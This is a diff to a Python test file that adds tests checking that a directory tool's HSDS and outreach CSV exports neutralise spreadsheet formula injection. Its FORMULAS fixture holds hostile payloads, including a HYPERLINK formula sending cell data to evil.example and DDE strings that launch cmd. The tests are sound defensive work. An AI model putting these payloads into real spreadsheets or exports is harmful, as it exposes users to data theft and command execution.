@@ -6,6 +6,8 @@ careless) file could have published what it should not, or stopped a build with 
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 from pathlib import Path
 
@@ -21,6 +23,8 @@ from haven.errors import ContentError, HavenError
 from haven.i18n.catalog import read_catalog
 from haven.i18n.exchange import import_file
 from haven.i18n.placeholders import fill, problem, segment_problem
+from haven.opendata.export import export_hsds
+from haven.opendata.importer import import_hsds
 from tests.conftest import MakeHub, starter_text
 from tests.test_translate_workflow import content_of, hub_with, update
 from tests.test_translate_workflow import fill as fill_catalog
@@ -118,8 +122,8 @@ def test_a_build_refuses_a_catalog_edited_by_hand_and_leaks_nothing(
     assert not out.exists()
     result = cli.invoke(main, ["outreach", str(root), "--output", str(tmp_path / "msgs")])
     assert SECRET not in result.output
-    for csv in (tmp_path / "msgs").glob("*.csv"):
-        assert SECRET not in csv.read_text()
+    for sheet in (tmp_path / "msgs").glob("*.csv"):
+        assert SECRET not in sheet.read_text()
     assert os.environ["HAVEN_TEST_SECRET"] == SECRET
 
 
@@ -248,3 +252,62 @@ def test_a_raw_control_character_in_a_msgstr_is_refused_at_build(
     assert "translations/cy.po:" in message and "hub:home.intro" in message
     assert "control character (U+0000)" in message
     assert not (tmp_path / "site").exists()
+
+
+# -- CSV formula injection ------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def spreadsheet_sees_text(cell: str) -> bool:
+    """What a spreadsheet does with a cell: a formula unless it starts with a quote, or is
+    only a number or a phone number (no function can be written without letters)."""
+    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+        return True
+    return all(c in "0123456789 +-().\t\r" for c in cell)
+
+
+def test_hsds_csv_cells_are_text_to_a_spreadsheet(make_hub: MakeHub, tmp_path: Path) -> None:
+    hostile = org(alternate=f"'{FORMULAS[0]}'", location=f'"{FORMULAS[1]}"',
+                  address=f'"{FORMULAS[2]}"', city=f'"{FORMULAS[3]}"')
+    hostile = hostile.replace("description: Legal advice for families.",
+                              "description: \"=1+1\"")
+    root = make_hub({"directory/example-legal-aid.yaml": hostile})
+    files, _ = export_hsds(validate(load(root)))
+    cells = [cell for name, data in files.items() if name.endswith(".csv")
+             for row in csv.reader(io.StringIO(data.decode())) for cell in row]
+    assert all(spreadsheet_sees_text(cell) for cell in cells), \
+        [c for c in cells if not spreadsheet_sees_text(c)]
+    for formula in [*FORMULAS, "=1+1"]:
+        assert "'" + formula in cells
+    assert "+1 860-555-0199" in cells  # phone numbers stay numbers
+    # Haven's own import reads the value back as it was.
+    folder = tmp_path / "csv"
+    folder.mkdir()
+    for name, data in files.items():
+        if name.startswith("csv/"):
+            (folder / name[4:]).write_bytes(data)
+    hub = make_hub({"directory/example-legal-aid.yaml": None})
+    import_hsds(folder, hub)
+    back = validate(load(hub)).organizations[0]
+    assert back.description == "=1+1" and back.locations[0].name == FORMULAS[1]
+    assert back.locations[0].address is not None
+    assert back.locations[0].address.city == FORMULAS[3]
+
+
+def test_outreach_csv_cells_are_text_to_a_spreadsheet(make_hub: MakeHub, cli: CliRunner,
+                                                      tmp_path: Path) -> None:
+    hub = starter_text("hub.yaml") + f"outreach:\n  sms: '{FORMULAS[0]} {{phone}}'\n" \
+        f"  voice: \"{FORMULAS[1]}\"\n  email_subject: \"{FORMULAS[3]}\"\n"
+    root = make_hub({"hub.yaml": hub})
+    out = tmp_path / "messages"
+    result = cli.invoke(main, ["outreach", str(root), "--output", str(out)])
+    assert result.exit_code == 0, result.output
+    cells = [cell for name in ("sms.csv", "email.csv", "voice.csv")
+             for row in csv.reader(io.StringIO((out / name).read_text(encoding="utf-8")))
+             for cell in row]
+    assert all(spreadsheet_sees_text(cell) for cell in cells), \
+        [c for c in cells if not spreadsheet_sees_text(c)]
+    assert any(cell.startswith("'" + FORMULAS[0]) for cell in cells)
+    assert any(cell.startswith("'" + FORMULAS[3]) for cell in cells)
